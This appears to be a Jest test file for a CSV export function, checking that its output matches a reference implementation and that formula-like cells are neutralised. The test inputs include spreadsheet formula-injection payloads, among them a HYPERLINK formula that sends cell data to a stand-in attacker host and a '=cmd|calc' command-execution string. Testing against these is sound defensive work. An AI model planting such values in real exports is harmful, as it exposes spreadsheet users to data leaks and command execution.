import { describe, expect, it } from '@jest/globals';
import { csvText } from '@slipstream/wire';
import { csvOf } from '../src/figures/csv.js';

/** The cells of the service's own tables and of ours. */
const both = (cell: string | number | boolean | null) => [
  csvOf([{ before: 'x', cell, after: 'y' }]),
  csvText([
    ['before', 'cell', 'after'],
    ['x', cell, 'y'],
  ]),
];

describe('a table as a file', () => {
  it.each([
    ...['a,b', 'say "no"', 'a\nb', 'a\rb', '', ' x ', 'Ærø', "it's", null, true, false, 0, -5, 0.5],
    ...['-0.00000000000000000001', '12345678901234567890.5', '-5', '.5', '-.5', '1e-8'],
    ...[
      '=1+1',
      '+1',
      '-1+1',
      '-A1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '＝1',
      '＋1',
      '－1',
      '＠1',
      '-0.5e3',
    ],
    ...['=HYPERLINK("https://evil.example?"&A1,"look")', '=1,2', '-', '--1'],
  ])('writes %j as the tables of the service do', (cell) => {
    const [ours, theirs] = both(cell);
    expect(ours).toBe(theirs);
  });

  it('writes every short text of signs as the tables of the service do', () => {
    const signs = ['=', '-', '@', ';', ',', '"', '\n', '\r', '\t', '1', '.', 'a', ' ', '＝'];
    let texts = [''];
    for (let length = 1; length <= 4; length += 1) {
      texts = texts.flatMap((text) => signs.map((sign) => text + sign));
      const [ours, theirs] = [
        csvOf(texts.map((cell) => ({ cell, after: 'y' }))),
        csvText([['cell', 'after'], ...texts.map((cell) => [cell, 'y'])]),
      ].map((table) => table.split(',y\n'));
      const differ = texts.filter((_, index) => ours?.[index] !== theirs?.[index]);
      expect([differ.length, differ.slice(0, 5)]).toEqual([0, []]);
    }
  });

  it('neutralises what a spreadsheet would compute, and leaves figures exact', () => {
    const name = '=cmd|calc';
    expect(csvOf([{ name, loss: '-0.012345678901234567' }])).toBe(
      "name,loss\n'=cmd|calc,-0.012345678901234567\n",
    );
  });

  it('has every field of any record, lists as JSON', () => {
    expect(csvOf([{ a: ['x', 'y'], b: undefined }, { c: '1' }])).toBe(
      'a,b,c\n"[""x"",""y""]",,\n,,1\n',
    );
  });
});
